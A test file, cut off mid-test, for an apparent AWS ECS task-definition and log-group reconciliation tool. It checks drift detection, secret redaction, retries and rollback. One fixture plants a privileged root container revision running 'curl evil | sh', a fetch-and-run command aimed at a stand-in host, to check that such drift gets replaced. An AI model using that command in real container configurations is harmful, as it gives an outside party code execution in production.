import { createHash } from 'node:crypto';
import {
  AssociateKmsKeyCommand,
  CreateLogGroupCommand,
  DeleteLogGroupCommand,
  DeleteRetentionPolicyCommand,
  DescribeLogGroupsCommand,
  DisassociateKmsKeyCommand,
  ListTagsForResourceCommand,
  PutRetentionPolicyCommand,
  TagResourceCommand as TagLogGroupCommand,
  UntagResourceCommand as UntagLogGroupCommand,
  type LogGroup,
} from '@aws-sdk/client-cloudwatch-logs';
import {
  DeregisterTaskDefinitionCommand,
  DescribeServicesCommand,
  DescribeTaskDefinitionCommand,
  ListTaskDefinitionsCommand,
  RegisterTaskDefinitionCommand,
  TagResourceCommand,
  UntagResourceCommand,
  type ContainerDefinition,
  type TaskDefinition,
} from '@aws-sdk/client-ecs';
import { beforeEach, describe, expect, it } from 'vitest';
import { desiredTaskDefinition, LOG_GROUP_IGNORE, TASK_DEFINITION_IGNORE, taskDefinitionStep } from '../../steps/task-definition.js';
import { SECRET_LOOKING_NAME } from '../../src/config.js';
import { AmbiguousWriteError, ref } from '../../src/core/actions.js';
import { describeAwsError } from '../../src/core/errors.js';
import { Outputs, type Observed } from '../../src/core/step.js';
import { ACCOUNT_ID, awsError, fixtureEnv, mockAws, testConfig, testContext, writeCalls, type AwsMocks } from '../helpers/mock-aws.js';

const family = 'fintech-api-task';
const revisionArn = (n: number) => `arn:aws:ecs:us-east-1:${ACCOUNT_ID}:task-definition/${family}:${n}`;
const logGroupName = '/ecs/fintech-api';
const logGroupArn = `arn:aws:logs:us-east-1:${ACCOUNT_ID}:log-group:${logGroupName}`;
const kmsKey = fixtureEnv.LOGS_KMS_KEY_ARN!;
const image = `${ACCOUNT_ID}.dkr.ecr.us-east-1.amazonaws.com/fintech-api:prod-1.4.2`;
const execRole = `arn:aws:iam::${ACCOUNT_ID}:role/FinTech-ECS-ExecRole`;
const taskRole = `arn:aws:iam::${ACCOUNT_ID}:role/FinTech-ECS-TaskRole`;
const ecsTags = [
  { key: 'Environment', value: 'Production' },
  { key: 'Project', value: 'FinTechGlobal' },
  { key: 'CostCenter', value: 'CC-Corp' },
];
const logTags = { Environment: 'Production', Project: 'FinTechGlobal', CostCenter: 'CC-Corp' };
const notFound = () => awsError('ClientException', 'Unable to describe task definition.', 'req-td-missing');
const sha12 = (value: string) => createHash('sha256').update(value).digest('hex').slice(0, 12);

const apiContainer: ContainerDefinition = {
  name: 'api-container',
  image,
  essential: true,
  portMappings: [{ containerPort: 8080, protocol: 'tcp' }],
  secrets: [{ name: 'DB_PASSWORD', valueFrom: `${fixtureEnv.DB_SECRET_ARN}:password::` }],
  environment: [
    { name: 'ENV', value: 'production' },
    { name: 'REGION', value: 'us-east-1' },
  ],
  logConfiguration: {
    logDriver: 'awsfirelens',
    options: { Name: 'cloudwatch', region: 'us-east-1', log_group_name: logGroupName, log_stream_prefix: 'app' },
  },
  healthCheck: { command: ['CMD-SHELL', 'curl -f http://localhost:8080/health || exit 1'], interval: 30, timeout: 5, retries: 3 },
  // Issue 9: ECS.5 and ECS.20.
  user: '1000:1000',
  readonlyRootFilesystem: true,
  mountPoints: [{ sourceVolume: 'api-container-tmp', containerPath: '/tmp', readOnly: false }],
};
const logRouter: ContainerDefinition = {
  name: 'log_router',
  image: 'public.ecr.aws/aws-observability/aws-for-fluent-bit:2.32.4',
  essential: true,
  user: '1000:1000',
  readonlyRootFilesystem: true,
  mountPoints: [{ sourceVolume: 'log_router-tmp', containerPath: '/tmp', readOnly: false }],
  firelensConfiguration: { type: 'fluentbit' },
  memoryReservation: 50,
  // ECS.9: the log router logs too, to the same group under its own prefix.
  logConfiguration: { logDriver: 'awslogs', options: { 'awslogs-group': logGroupName, 'awslogs-region': 'us-east-1', 'awslogs-stream-prefix': 'firelens' } },
};
const volumes = [{ name: 'api-container-tmp' }, { name: 'log_router-tmp' }];
/** What RegisterTaskDefinition is sent for the config. */
const registerInput = {
  family,
  networkMode: 'awsvpc',
  requiresCompatibilities: ['FARGATE'],
  cpu: '1024',
  memory: '2048',
  executionRoleArn: execRole,
  taskRoleArn: taskRole,
  containerDefinitions: [apiContainer, logRouter],
  volumes,
  tags: ecsTags,
};

/** The task-level fields of a registered revision, as both AWS and moto describe them. */
function registeredRevision(revision: number): TaskDefinition {
  return {
    taskDefinitionArn: revisionArn(revision),
    family,
    revision,
    status: 'ACTIVE',
    networkMode: 'awsvpc',
    requiresCompatibilities: ['FARGATE'],
    compatibilities: ['EC2', 'FARGATE'],
    cpu: '1024',
    memory: '2048',
    executionRoleArn: execRole,
    taskRoleArn: taskRole,
    // AWS may describe a task-storage volume with an empty host: the same volume.
    volumes: volumes.map((v) => ({ ...v, host: {} })),
    placementConstraints: [],
  };
}

/**
 * A revision as AWS describes it: our fields plus what it fills in, in its own order. moto shows
 * none of hostPort, user "0" on the FireLens container, registeredAt/By, requiresAttributes: unit-tested.
 */
function awsRevision(revision: number, overrides: { api?: Partial<ContainerDefinition>; task?: Partial<TaskDefinition> } = {}): TaskDefinition {
  return {
    ...registeredRevision(revision),
    registeredAt: new Date('2026-01-23T10:00:00Z'),
    registeredBy: `arn:aws:iam::${ACCOUNT_ID}:role/deployer`,
    requiresAttributes: [{ name: 'ecs.capability.firelens.fluentbit' }],
    enableFaultInjection: false,
    containerDefinitions: [
      { ...logRouter, cpu: 0, portMappings: [], environment: [], volumesFrom: [], systemControls: [], logConfiguration: { ...logRouter.logConfiguration!, secretOptions: [] } },
      {
        ...apiContainer,
        cpu: 0,
        portMappings: [{ containerPort: 8080, hostPort: 8080, protocol: 'tcp' }],
        // AWS keeps the order it was given; an operator may have registered them unsorted.
        environment: [
          { name: 'REGION', value: 'us-east-1' },
          { name: 'ENV', value: 'production' },
        ],
        logConfiguration: { ...apiContainer.logConfiguration!, secretOptions: [] },
        volumesFrom: [],
        systemControls: [],
        ...overrides.api,
      },
    ],
    ...overrides.task,
  };
}

/** The same revision as moto 5.2 returns it (cpu 0, empty lists, no hostPort; see ecs/models.py). */
function motoRevision(revision: number): TaskDefinition {
  const defaults = { cpu: 0, portMappings: [], essential: true, environment: [], mountPoints: [], volumesFrom: [] };
  return { ...registeredRevision(revision), containerDefinitions: [{ ...defaults, ...apiContainer }, { ...defaults, ...logRouter }] };
}

/** Issue 7 (a): the out-of-band revision that must never be what the service is moved to. */
const hostile = (revision: number) =>
  awsRevision(revision, { api: { privileged: true, readonlyRootFilesystem: false, command: ['sh', '-c', 'curl evil | sh'], user: '0' } });

const inSyncLogGroup: LogGroup = {
  logGroupName,
  arn: `${logGroupArn}:*`,
  logGroupArn,
  retentionInDays: 365,
  kmsKeyId: kmsKey,
  creationTime: 1,
  storedBytes: 0,
  metricFilterCount: 0,
};

let aws: AwsMocks;
beforeEach(() => {
  aws = mockAws();
});

interface World {
  logGroup?: LogGroup | null;
  logGroupTags?: Record<string, string>;
  /** What DescribeTaskDefinition(family) answers: the latest ACTIVE revision on AWS. */
  latest?: TaskDefinition | null;
  latestTags?: typeof ecsTags;
  /** The ARN the service runs; null: no service. */
  running?: string | null;
  /** Other revisions by ARN. */
  revisions?: TaskDefinition[];
}

function mockWorld(world: World = {}) {
  const group = world.logGroup === undefined ? inSyncLogGroup : world.logGroup;
  aws.logs.on(DescribeLogGroupsCommand).resolves({ logGroups: group ? [group] : [] });
  aws.logs.on(ListTagsForResourceCommand).resolves({ tags: world.logGroupTags ?? logTags });
  const latest = world.latest === undefined ? awsRevision(3) : world.latest;
  if (latest) aws.ecs.on(DescribeTaskDefinitionCommand, { taskDefinition: family }).resolves({ taskDefinition: latest, tags: world.latestTags ?? ecsTags });
  else aws.ecs.on(DescribeTaskDefinitionCommand, { taskDefinition: family }).rejects(notFound());
  for (const revision of world.revisions ?? []) {
    aws.ecs.on(DescribeTaskDefinitionCommand, { taskDefinition: revision.taskDefinitionArn }).resolves({ taskDefinition: revision, tags: ecsTags });
  }
  const running = world.running === undefined ? latest?.taskDefinitionArn : world.running;
  aws.ecs
    .on(DescribeServicesCommand)
    .resolves(running ? { services: [{ serviceName: 'fintech-api-svc', status: 'ACTIVE', taskDefinition: running }] } : { services: [], failures: [{ reason: 'MISSING' }] });
}

const ops = (plan: { actions: Array<{ service: string; operation: string }> }) => plan.actions.map((a) => `${a.service}:${a.operation}`);

describe('desiredTaskDefinition (1.4)', () => {
  it('pins the api image to the configured tag, or a digest with @, never latest', () => {
    expect(desiredTaskDefinition(testConfig()).containerDefinitions[0].image).toBe(image);
    const digest = `sha256:${'a'.repeat(64)}`;
    const pinned = desiredTaskDefinition(testConfig({ ...fixtureEnv, IMAGE_TAG: digest }));
    expect(pinned.containerDefinitions[0].image).toBe(`${ACCOUNT_ID}.dkr.ecr.us-east-1.amazonaws.com/fintech-api@${digest}`);
    expect(pinned.containerDefinitions.map((c) => c.image).join(' ')).not.toMatch(/:latest\b/);
  });

  it('uses the role ARNs it is given, else the configured roles in the pinned account', () => {
    expect(desiredTaskDefinition(testConfig())).toMatchObject({ executionRoleArn: execRole, taskRoleArn: taskRole });
    const roles = { executionRoleArn: 'arn:aws:iam::123456789012:role/Other-Exec', taskRoleArn: 'arn:aws:iam::123456789012:role/Other-Task' };
    expect(desiredTaskDefinition(testConfig(), roles)).toMatchObject(roles);
  });
});

describe('task-definition step (1.4)', () => {
  it('fresh: creates the KMS log group with retention, then registers the task definition with DB_PASSWORD only as a secret', async () => {
    mockWorld({ logGroup: null, latest: null, running: null });
    aws.logs.on(CreateLogGroupCommand).resolves({});
    aws.logs.on(PutRetentionPolicyCommand).resolves({});
    aws.ecs.on(RegisterTaskDefinitionCommand).resolves({ taskDefinition: { taskDefinitionArn: revisionArn(1), revision: 1 } });
    const ctx = testContext();
    const plan = await taskDefinitionStep.plan(ctx);
    expect(plan.changes.map((c) => [c.resource, c.action])).toEqual([
      ['log group /ecs/fintech-api', 'create'],
      ['task definition fintech-api-task', 'create'],
    ]);
    expect(plan.changes[0].note).toMatch(/section 3.3 requires KMS/);
    // The plan is executable: exactly these commands, and apply sends exactly them.
    expect(ops(plan)).toEqual(['logs:CreateLogGroup', 'logs:PutRetentionPolicy', 'ecs:RegisterTaskDefinition']);
    expect(plan.outputs).toEqual({ taskDefinitionArn: ref('task-definition', 'taskDefinitionArn'), logGroupName });
    expect(plan.before).toEqual({ 'log-group': undefined, 'task-definition': undefined, 'service-revision': undefined, 'latest-revision': undefined });

    const out = await taskDefinitionStep.apply(ctx, plan);
    expect(out).toEqual({ taskDefinitionArn: revisionArn(1), logGroupName });
    expect(writeCalls(aws)).toEqual(ops(plan));
    // Row 2: the runbook creates it without KMS; section 3.3 wants KMS.
    expect(aws.logs.commandCalls(CreateLogGroupCommand)[0].args[0].input).toEqual({ logGroupName, kmsKeyId: kmsKey, tags: logTags });
    expect(aws.logs.commandCalls(PutRetentionPolicyCommand)[0].args[0].input).toEqual({ logGroupName, retentionInDays: 365 });
    const input = aws.ecs.commandCalls(RegisterTaskDefinitionCommand)[0].args[0].input;
    expect(input).toEqual(registerInput);
    expect(plan.actions[2].input).toEqual(input);
    const environment = input.containerDefinitions!.flatMap((c) => c.environment ?? []);
    expect(environment.map((e) => e.name)).not.toContain('DB_PASSWORD');
    expect(environment.filter((e) => SECRET_LOOKING_NAME.test(e.name ?? ''))).toEqual([]);
  });

  it.each([
    ['as AWS describes it (defaults, hostPort, user "0" on the FireLens container, other order)', awsRevision(3)],
    ['as moto describes it', motoRevision(3)],
  ])('in sync: no change and no write when the service runs a revision equal to the config, %s', async (_label, revision) => {
    mockWorld({ latest: revision });
    const ctx = testContext();
    const plan = await taskDefinitionStep.plan(ctx);
    expect(plan.changes).toEqual([]);
    expect(plan.actions).toEqual([]);
    expect(plan.notes).toBeUndefined();
    expect(plan.outputs).toEqual({ taskDefinitionArn: revisionArn(3), logGroupName });
    await taskDefinitionStep.apply(ctx, plan);
    expect(writeCalls(aws)).toEqual([]);
    expect(aws.ecs.commandCalls(DescribeTaskDefinitionCommand)[0].args[0].input).toEqual({ taskDefinition: family, include: ['TAGS'] });
    expect(aws.ecs.commandCalls(DescribeServicesCommand)[0].args[0].input).toEqual({ cluster: 'fintech-prod-cluster', services: ['fintech-api-svc'], include: ['TAGS'] });
  });

  it('issue 7 (a): the service runs an out-of-band revision that differs: it is named field by field and a new revision is registered', async () => {
    mockWorld({ latest: hostile(5) });
    aws.ecs.on(RegisterTaskDefinitionCommand).resolves({ taskDefinition: { taskDefinitionArn: revisionArn(6), revision: 6 } });
    const ctx = testContext();
    const plan = await taskDefinitionStep.plan(ctx);
    expect(plan.changes).toHaveLength(1);
    expect(plan.changes[0]).toMatchObject({ resource: 'task definition fintech-api-task', action: 'create' });
    const fields = [
      'containerDefinitions.api-container.command',
      'containerDefinitions.api-container.privileged',
      'containerDefinitions.api-container.readonlyRootFilesystem',
      'containerDefinitions.api-container.user',
    ];
    expect(plan.changes[0].note).toBe(`new revision: the service's fintech-api-task:5 differs in ${fields.join(', ')}`);
    expect(plan.notes).toEqual([
      'the service runs fintech-api-task:5, which differs from the config (containerDefinitions.api-container.command: ["sh","-c","curl evil | sh"] → (unset); ' +
        // readonlyRootFilesystem false is AWS's default (normalised away); the config wants true (ECS.5) and a non-root user (ECS.20).
        'containerDefinitions.api-container.privileged: true → (unset); containerDefinitions.api-container.readonlyRootFilesystem: (unset) → true; ' +
        'containerDefinitions.api-container.user: "0" → "1000:1000"): a new revision is registered and the service step moves the service to it',
    ]);
    // Never the out-of-band revision: the ARN of the one this run registers.
    expect(plan.outputs.taskDefinitionArn).toBe(ref('task-definition', 'taskDefinitionArn'));
    expect(plan.before['service-revision']).toMatchObject({ taskDefinitionArn: revisionArn(5), containerDefinitions: { 'api-container': { privileged: true } } });
    const out = await taskDefinitionStep.apply(ctx, plan);
    expect(writeCalls(aws)).toEqual(['ecs:RegisterTaskDefinition']);
    expect(aws.ecs.commandCalls(RegisterTaskDefinitionCommand)[0].args[0].input).toEqual(registerInput);
    expect(out.taskDefinitionArn).toBe(revisionArn(6));
  });

  it('issue 7 (b): an out-of-band latest revision that is not deployed: the service stays, the desired document is registered anyway', async () => {
    mockWorld({ latest: hostile(5), running: revisionArn(3), revisions: [awsRevision(3)] });
    aws.ecs.on(RegisterTaskDefinitionCommand).resolves({ taskDefinition: { taskDefinitionArn: revisionArn(6), revision: 6 } });
    const ctx = testContext();
    const plan = await taskDefinitionStep.plan(ctx);
    expect(plan.changes[0].action).toBe('create');
    expect(plan.changes[0].note).toMatch(/^new revision: the latest ACTIVE fintech-api-task:5 differs in containerDefinitions\.api-container\.command, .*privileged.*; the service stays on fintech-api-task:3$/);
    expect(plan.notes).toHaveLength(1);
    expect(plan.notes![0]).toMatch(/^fintech-api-task:5, the family's latest ACTIVE revision \(what "fintech-api-task" resolves to\), differs from the config \(.*privileged: true → \(unset\).*\): a new revision of the config's document is registered; the service stays on fintech-api-task:3, which equals the config$/);
    // The service is not moved: it already runs a revision equal to the config.
    expect(plan.outputs.taskDefinitionArn).toBe(revisionArn(3));
    const out = await taskDefinitionStep.apply(ctx, plan);
    expect(writeCalls(aws)).toEqual(['ecs:RegisterTaskDefinition']);
    expect(out.taskDefinitionArn).toBe(revisionArn(3));
  });

  it('the latest ACTIVE revision equals the config while the service runs another: no new revision, the service step moves it there', async () => {
    const old = awsRevision(2, { api: { image: image.replace('prod-1.4.2', 'prod-1.4.1') } });
    mockWorld({ latest: awsRevision(3), running: revisionArn(2), revisions: [old] });
    const ctx = testContext();
    const plan = await taskDefinitionStep.plan(ctx);
    expect(plan.changes).toEqual([]);
    expect(plan.outputs.taskDefinitionArn).toBe(revisionArn(3));
    expect(plan.notes).toEqual([
      `the service runs fintech-api-task:2, which differs from the config (containerDefinitions.api-container.image: "${old.containerDefinitions![1].image}" → "${image}"): ` +
        'fintech-api-task:3 (latest ACTIVE) equals the config: no new revision; the service step moves the service to it',
    ]);
    await taskDefinitionStep.apply(ctx, plan);
    expect(writeCalls(aws)).toEqual([]);
  });

  it('uses the role ARNs the iam step produced, and the configured ones while iam only has ref tokens', async () => {
    mockWorld();
    const outputs = new Outputs();
    outputs.set('iam', { executionRoleArn: execRole.replace('ExecRole', 'ExecRole2'), taskRoleArn: taskRole });
    const plan = await taskDefinitionStep.plan(testContext({ outputs }));
    expect(plan.changes[0].note).toBe("new revision: the service's fintech-api-task:3 differs in executionRoleArn");
    const refs = new Outputs();
    refs.set('iam', { executionRoleArn: ref('iam', 'executionRoleArn'), taskRoleArn: ref('iam', 'taskRoleArn') });
    expect((await taskDefinitionStep.plan(testContext({ outputs: refs }))).changes).toEqual([]);
  });

  it('looks past an INACTIVE highest revision (moto describes it) to the latest ACTIVE one, paging ListTaskDefinitions', async () => {
    mockWorld({ latest: { ...motoRevision(4), status: 'INACTIVE' }, running: null, revisions: [motoRevision(3)] });
    aws.ecs
      .on(ListTaskDefinitionsCommand)
      .resolvesOnce({ taskDefinitionArns: [revisionArn(1)], nextToken: 'page-2' })
      .resolves({ taskDefinitionArns: [revisionArn(3), `arn:aws:ecs:us-east-1:${ACCOUNT_ID}:task-definition/${family}-other:9`] });
    const plan = await taskDefinitionStep.plan(testContext());
    expect(plan.changes).toEqual([]);
    expect(plan.outputs.taskDefinitionArn).toBe(revisionArn(3));
    expect(aws.ecs.commandCalls(ListTaskDefinitionsCommand)).toHaveLength(2);
    expect(aws.ecs.commandCalls(ListTaskDefinitionsCommand)[0].args[0].input).toMatchObject({ familyPrefix: family, status: 'ACTIVE' });
  });

  it('log group drift is named field by field and converged with exactly the matching calls (AssociateKmsKey: moto answers HTTP 500, unit-tested)', async () => {
    mockWorld({ logGroup: { ...inSyncLogGroup, retentionInDays: 30, kmsKeyId: undefined }, logGroupTags: { Environment: 'Production', Project: 'FinTechGlobal', Owner: 'someone' } });
    aws.logs.on(PutRetentionPolicyCommand).resolves({});
    aws.logs.on(AssociateKmsKeyCommand).resolves({});
    aws.logs.on(TagLogGroupCommand).resolves({});
    const ctx = testContext();
    const plan = await taskDefinitionStep.plan(ctx);
    // A foreign tag (Owner) is not compared and never removed.
    expect(plan.changes).toEqual([
      {
        resource: 'log group /ecs/fintech-api',
        action: 'update',
        fields: [
          { field: 'kmsKeyId', from: undefined, to: kmsKey },
          { field: 'retentionInDays', from: 30, to: 365 },
          { field: 'tags.CostCenter', from: undefined, to: 'CC-Corp' },
        ],
      },
    ]);
    expect(ops(plan)).toEqual(['logs:PutRetentionPolicy', 'logs:AssociateKmsKey', 'logs:TagResource']);
    await taskDefinitionStep.apply(ctx, plan);
    expect(writeCalls(aws)).toEqual(ops(plan));
    expect(aws.logs.commandCalls(AssociateKmsKeyCommand)[0].args[0].input).toEqual({ logGroupName, kmsKeyId: kmsKey });
    expect(aws.logs.commandCalls(TagLogGroupCommand)[0].args[0].input).toEqual({ resourceArn: logGroupArn, tags: { CostCenter: 'CC-Corp' } });
  });

  it('tags the revision in place when only its tags drifted: no new revision', async () => {
    mockWorld({ latestTags: ecsTags.slice(0, 1) });
    aws.ecs.on(TagResourceCommand).resolves({});
    const ctx = testContext();
    const plan = await taskDefinitionStep.plan(ctx);
    expect(plan.changes).toEqual([
      {
        resource: 'task definition fintech-api-task',
        action: 'update',
        note: 'tags fintech-api-task:3; no new revision',
        fields: [
          { field: 'tags.CostCenter', from: undefined, to: 'CC-Corp' },
          { field: 'tags.Project', from: undefined, to: 'FinTechGlobal' },
        ],
      },
    ]);
    expect(plan.outputs.taskDefinitionArn).toBe(revisionArn(3));
    await taskDefinitionStep.apply(ctx, plan);
    expect(writeCalls(aws)).toEqual(['ecs:TagResource']);
    expect(aws.ecs.commandCalls(TagResourceCommand)[0].args[0].input).toEqual({ resourceArn: revisionArn(3), tags: ecsTags.slice(1) });
  });

  describe('the ignore lists are deny-lists', () => {
    it('task definition: a field nobody thought of (task or container) is drift and calls for a new revision; what ECS sets itself is not', async () => {
      mockWorld({
        latest: awsRevision(3, { api: { someNewField: { on: true } } as never, task: { pidMode: 'task' } }),
      });
      const plan = await taskDefinitionStep.plan(testContext());
      expect(ops(plan)).toEqual(['ecs:RegisterTaskDefinition']);
      expect(plan.changes[0].note).toBe("new revision: the service's fintech-api-task:3 differs in containerDefinitions.api-container.someNewField, pidMode");
      // Fields ECS sets itself, on the ignore list, are not drift.
      aws.ecs.reset();
      mockWorld({
        latest: awsRevision(3, {
          api: { portMappings: [{ containerPort: 8080, hostPort: 8080, protocol: 'tcp' }] },
          task: { deregisteredAt: new Date(), registeredBy: 'someone', compatibilities: ['FARGATE'], requiresAttributes: [{ name: 'x' }] },
        }),
      });
      expect((await taskDefinitionStep.plan(testContext())).changes).toEqual([]);
      expect(TASK_DEFINITION_IGNORE).toEqual([
        'taskDefinitionArn',
        'revision',
        'status',
        'requiresAttributes',
        'compatibilities',
        'registeredAt',
        'registeredBy',
        'deregisteredAt',
        'containerDefinitions.*.portMappings.*.hostPort',
      ]);
    });

    it('log group: a field nobody thought of, or a class no call can change, is refused; counters and ARNs are not drift', async () => {
      mockWorld({ logGroup: { ...inSyncLogGroup, someNewField: 'x' } as never });
      expect(String(await taskDefinitionStep.plan(testContext()).catch((e: unknown) => e))).toMatch(/log group \/ecs\/fintech-api: someNewField differ\(s\) and cannot be changed in place; a person must decide/);
      aws.logs.reset();
      mockWorld({ logGroup: { ...inSyncLogGroup, logGroupClass: 'INFREQUENT_ACCESS' } });
      expect(String(await taskDefinitionStep.plan(testContext()).catch((e: unknown) => e))).toMatch(/logGroupClass differ\(s\)/);
      aws.logs.reset();
      // STANDARD is the default on both sides; moto reports no class at all.
      mockWorld({
        logGroup: { ...inSyncLogGroup, logGroupClass: 'STANDARD', storedBytes: 99, metricFilterCount: 2, creationTime: 7, dataProtectionStatus: 'ACTIVATED', inheritedProperties: ['ACCOUNT_DATA_PROTECTION'] },
      });
      expect((await taskDefinitionStep.plan(testContext())).changes).toEqual([]);
      expect(LOG_GROUP_IGNORE).toEqual(['arn', 'logGroupArn', 'creationTime', 'storedBytes', 'metricFilterCount', 'dataProtectionStatus', 'inheritedProperties']);
    });
  });

  it('a secret-looking environment value never leaves the process: redacted on both sides, a change of it still seen', async () => {
    const leaky = (value: string) =>
      awsRevision(5, { api: { environment: [...apiContainer.environment!, { name: 'DB_PASSWORD', value }, { name: 'STRIPE_API_KEY', value: 'sk_live_123' }] } });
    mockWorld({ latest: leaky('hunter2') });
    const plan = await taskDefinitionStep.plan(testContext());
    const text = JSON.stringify(plan);
    expect(text).not.toContain('hunter2');
    expect(text).not.toContain('sk_live_123');
    expect(text).toContain(`(redacted, sha256:${sha12('hunter2')})`);
    expect(plan.before['service-revision']?.containerDefinitions).toMatchObject({
      'api-container': { environment: [{ name: 'DB_PASSWORD', value: `(redacted, sha256:${sha12('hunter2')})` }, { name: 'ENV' }, { name: 'REGION' }, { name: 'STRIPE_API_KEY' }] },
    });
    expect(ops(plan)).toEqual(['ecs:RegisterTaskDefinition']);
    // Another value, another hash: a change is seen without the value.
    aws.ecs.reset();
    mockWorld({ latest: leaky('hunter3') });
    const again = JSON.stringify(await taskDefinitionStep.plan(testContext()));
    expect(again).toContain(`(redacted, sha256:${sha12('hunter3')})`);
    expect(again).not.toContain('hunter3');
  });

  it('issue 9: every environment value is masked by default in plans and before snapshots; the register input still carries the config values', async () => {
    mockWorld({ latest: awsRevision(5, { api: { environment: [{ name: 'ENV', value: 'staging' }, { name: 'REGION', value: 'us-east-1' }, { name: 'DEBUG_URL', value: 'https://planted.example/x' }] } }) });
    aws.ecs.on(RegisterTaskDefinitionCommand).resolves({ taskDefinition: { taskDefinitionArn: revisionArn(6), revision: 6 } });
    const ctx = testContext();
    const plan = await taskDefinitionStep.plan(ctx);
    const text = JSON.stringify({ changes: plan.changes, notes: plan.notes, before: plan.before });
    for (const value of ['staging', 'production', 'https://planted.example/x']) expect(text).not.toContain(value);
    expect(text).toContain(`(masked, sha256:${sha12('staging')})`);
    expect(text).toContain(`(masked, sha256:${sha12('production')})`);
    // What apply sends is the config's own document, in cleartext (never an observed value).
    await taskDefinitionStep.apply(ctx, plan);
    expect(aws.ecs.commandCalls(RegisterTaskDefinitionCommand)[0].args[0].input).toEqual(registerInput);
  });

  it('issue 9: taskDefinition.showEnvironmentValues shows plain values; secret-looking ones stay redacted', async () => {
    const config = testConfig();
    config.taskDefinition.showEnvironmentValues = true;
    mockWorld({ latest: awsRevision(5, { api: { environment: [{ name: 'ENV', value: 'staging' }, { name: 'DB_PASSWORD', value: 'hunter2' }] } }) });
    const text = JSON.stringify(await taskDefinitionStep.plan(testContext({ config })));
    expect(text).toContain('"staging"');
    expect(text).not.toContain('hunter2');
    expect(text).toContain(`(redacted, sha256:${sha12('hunter2')})`);
  });

  it('a lost register reply is adopted when the latest ACTIVE revision equals the desired document: one revision, its ARN bound', async () => {
    mockWorld({ latest: awsRevision(3, { api: { image: 'old' } }), revisions: [awsRevision(3, { api: { image: 'old' } })] });
    aws.ecs
      .on(DescribeTaskDefinitionCommand, { taskDefinition: family })
      .resolvesOnce({ taskDefinition: awsRevision(3, { api: { image: 'old' } }), tags: ecsTags })
      .resolves({ taskDefinition: awsRevision(4), tags: ecsTags });
    aws.ecs.on(RegisterTaskDefinitionCommand).rejects(new AmbiguousWriteError(Object.assign(new Error('socket hang up'), { code: 'ECONNRESET' })));
    const ctx = testContext();
    const plan = await taskDefinitionStep.plan(ctx);
    const out = await taskDefinitionStep.apply(ctx, plan);
    expect(aws.ecs.commandCalls(RegisterTaskDefinitionCommand)).toHaveLength(1);
    expect(out.taskDefinitionArn).toBe(revisionArn(4));
  });

  it('a lost register reply that did not take effect is sent again (the re-read finds no equal revision)', async () => {
    mockWorld({ latest: awsRevision(3, { api: { image: 'old' } }) });
    aws.ecs
      .on(RegisterTaskDefinitionCommand)
      .rejectsOnce(new AmbiguousWriteError(Object.assign(new Error('socket hang up'), { code: 'ECONNRESET' })))
      .resolves({ taskDefinition: { taskDefinitionArn: revisionArn(4) } });
    const ctx = testContext();
    const out = await taskDefinitionStep.apply(ctx, await taskDefinitionStep.plan(ctx));
    expect(aws.ecs.commandCalls(RegisterTaskDefinitionCommand)).toHaveLength(2);
    expect(out.taskDefinitionArn).toBe(revisionArn(4));
  });

  describe('rollback', () => {
    const fresh: Observed = { 'log-group': undefined, 'task-definition': undefined, 'service-revision': undefined, 'latest-revision': undefined };

    it('after a fresh apply: deregisters the revision and deletes the log group this run created; twice is a no-op', async () => {
      aws.logs.on(DescribeLogGroupsCommand).resolvesOnce({ logGroups: [inSyncLogGroup] }).resolves({ logGroups: [] });
      aws.logs.on(ListTagsForResourceCommand).resolves({ tags: logTags });
      aws.ecs.on(DescribeTaskDefinitionCommand).resolvesOnce({ taskDefinition: motoRevision(1), tags: ecsTags }).rejects(notFound());
      aws.ecs.on(DescribeServicesCommand).resolves({ services: [] });
      const order: string[] = [];
      aws.ecs.on(DeregisterTaskDefinitionCommand).callsFake(() => (order.push('DeregisterTaskDefinition'), {}));
      aws.logs.on(DeleteLogGroupCommand).callsFake(() => (order.push('DeleteLogGroup'), {}));
      const ctx = testContext();
      const created = new Set(['log-group', 'task-definition']);
      expect(await taskDefinitionStep.rollback(ctx, fresh, created)).toEqual([]);
      // Newest first: the task definition names the log group.
      expect(order).toEqual(['DeregisterTaskDefinition', 'DeleteLogGroup']);
      expect(aws.ecs.commandCalls(DeregisterTaskDefinitionCommand)[0].args[0].input).toEqual({ taskDefinition: revisionArn(1) });
      expect(aws.logs.commandCalls(DeleteLogGroupCommand)[0].args[0].input).toEqual({ logGroupName });
      await taskDefinitionStep.rollback(ctx, fresh, created);
      expect(writeCalls(aws)).toHaveLength(2);
    });

    it('never deletes what this run did not provably create, and says so', async () => {
      mockWorld();
      const notes = await taskDefinitionStep.rollback(testContext(), fresh, new Set());
      expect(writeCalls(aws)).toEqual([]);
      expect(notes).toEqual([
        'task definition fintech-api-task: not created by this run (no reply or token proves it), left as it is',
        'log group /ecs/fintech-api: not created by this run (no reply or token proves it), left as it is',
      ]);
    });

    it('after registering over a pre-existing revision: deregisters only the new one, never the one the service ran', async () => {
      const old = awsRevision(3, { api: { image: 'old' } });
      mockWorld({ latest: old });
      const { before } = await taskDefinitionStep.plan(testContext());
      expect(before['task-definition']).toBeUndefined();
      aws.ecs.reset();
      mockWorld({ latest: awsRevision(4), running: revisionArn(3), revisions: [old] });
      aws.ecs.on(DeregisterTaskDefinitionCommand).resolves({});
      await taskDefinitionStep.rollback(testContext(), before, new Set(['task-definition']));
      expect(writeCalls(aws)).toEqual(['ecs:DeregisterTaskDefinition']);
      expect(aws.ecs.commandCalls(DeregisterTaskDefinitionCommand)[0].args[0].input).toEqual({ taskDefinition: revisionArn(4) });
    });

    it('of a pre-existing log group and revision: converges retention, KMS and tags back to before, never deletes; twice is a no-op (DisassociateKmsKey: moto answers HTTP 500, unit-tested)', async () => {
      const beforeGroup = { ...inSyncLogGroup, retentionInDays: undefined, kmsKeyId: undefined };
      mockWorld({ logGroup: beforeGroup, logGroupTags: { Environment: 'Staging' }, latestTags: ecsTags.slice(0, 1) });
      const { before } = await taskDefinitionStep.plan(testContext());
      aws.logs.reset();
      aws.ecs.reset();
      mockWorld();
      aws.logs.on(DescribeLogGroupsCommand).resolvesOnce({ logGroups: [inSyncLogGroup] }).resolves({ logGroups: [beforeGroup] });
      aws.logs.on(ListTagsForResourceCommand).resolvesOnce({ tags: logTags }).resolves({ tags: { Environment: 'Staging' } });
      aws.ecs.on(DescribeTaskDefinitionCommand, { taskDefinition: family }).resolvesOnce({ taskDefinition: awsRevision(3), tags: ecsTags }).resolves({ taskDefinition: awsRevision(3), tags: ecsTags.slice(0, 1) });
      aws.logs.on(DeleteRetentionPolicyCommand).resolves({});
      aws.logs.on(DisassociateKmsKeyCommand).resolves({});
      aws.logs.on(UntagLogGroupCommand).resolves({});
